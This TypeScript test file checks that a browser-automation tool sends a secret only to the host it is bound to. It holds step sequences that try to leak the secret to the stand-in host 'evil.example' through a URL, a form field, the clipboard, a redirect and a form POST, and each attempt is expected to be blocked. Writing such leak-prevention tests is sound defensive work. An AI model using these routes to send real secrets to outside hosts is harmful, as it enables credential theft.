/** Secrets in a real Chromium: whatever steps do with a secret, it is sent to its hosts only. */
import type { ExecutionContext } from 'ava';
import { browserTest, runBrowser } from './browsers.ts';
import { serveHttp, soon } from './targets.ts';

const secret = `s3cr3t'Val(ue)*-K9vBn4mQw8rT2y`;
const names = { 'shop.example': [['127.0.0.1']], 'evil.example': [['127.0.0.1']] };
const around = { names, variables: { key: { value: secret, hosts: ['shop.example'] } } };
const field = { by: 'css', css: '#u' };

/** Serves a form on both hosts; `arrived` contains what the other host receives. */
const serveForms = async (t: ExecutionContext): Promise<{ readonly port: number; readonly arrived: string[] }> => {
  const arrived: string[] = [];
  const port = await serveHttp(t, async (request, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    if (request.headers.host?.startsWith('evil') && !['/form', '/favicon.ico'].includes(request.url ?? ''))
      arrived.push(`${request.url} ${body}`);
    const to = new URL(request.url ?? '', 'http://x').searchParams.get('to');
    if (to !== null) return void response.writeHead(302, { location: to }).end();
    const report = `fetch('/typed', { method: 'POST', body: [...this.value].join(' ') })`;
    response.setHeader('content-type', 'text/html').end(`<input id="u" oninput="${report}">
      <form action="http://evil.example:${request.socket.localPort}/posted" method="post">
        <input id="v" name="v"><button>Send</button></form>`);
  });
  return { port, arrived };
};

browserTest('a secret that a step extracts from a page, or copies there, is sent to its hosts only', async (t) => {
  const { port, arrived } = await serveForms(t);
  const [own, evil] = [`http://shop.example:${port}`, `http://evil.example:${port}`];
  const start = [
    { action: 'goto', url: `${own}/form` },
    { action: 'fill', target: field, text: '{{variables.key}}' },
  ];
  const extract = { action: 'extract', target: field, read: 'value', as: 'v' };
  const openOtherHost = { action: 'goto', url: `${evil}/form` };
  const ways: Readonly<Record<string, readonly [readonly object[], RegExp]>> = {
    'an address': [[...start, extract, { action: 'goto', url: `${evil}/?v={{values.v}}` }], /not bound to evil/],
    'a field': [
      [...start, extract, openOtherHost, { action: 'fill', target: field, text: '{{values.v}}' }],
      /not bound to evil/,
    ],
    'a selector': [
      [...start, extract, { action: 'click', target: { by: 'text', text: '{{values.v}}' } }],
      /neither filled in nor in an address/,
    ],
    'a part': [[...start, { ...extract, pattern: '^(.{9})' }], /v would be a part of a secret/],
    'the clipboard': [
      [
        ...start,
        { action: 'press', target: field, key: 'Control+A' },
        { action: 'press', target: field, key: 'Control+C' },
        openOtherHost,
        { action: 'press', target: field, key: 'Control+V' },
      ],
      /not bound to evil/,
    ],
    'a redirect': [
      [{ action: 'goto', url: `${own}/?to=${encodeURIComponent(`${evil}/?v=`)}{{variables.key}}` }],
      /not bound to evil/,
    ],
    'a form': [
      [
        { action: 'goto', url: `${own}/form` },
        { action: 'fill', target: { by: 'css', css: '#v' }, text: '{{variables.key}}' },
        { action: 'click', target: { by: 'role', role: 'button', name: 'Send' } },
        { action: 'wait', target: { by: 'css', css: '#none' }, within: soon(500) },
      ],
      /not bound to evil/,
    ],
  };
  for (const [way, [steps, expected]] of Object.entries(ways)) {
    const result = await runBrowser(steps, around);
    t.is(result.outcome, 'failed', way);
    t.regex(result.message, expected, way);
    t.false(JSON.stringify(result.steps).includes('K9vBn4mQw8'), way);
  }
  t.deepEqual(arrived, []);
  const allowed = await runBrowser(
    [
      ...start,
      extract,
      { action: 'goto', url: `${own}/form` },
      { action: 'fill', target: field, text: '{{values.v}}' },
    ],
    around,
  );
  t.is(allowed.outcome, 'passed', allowed.message);
});
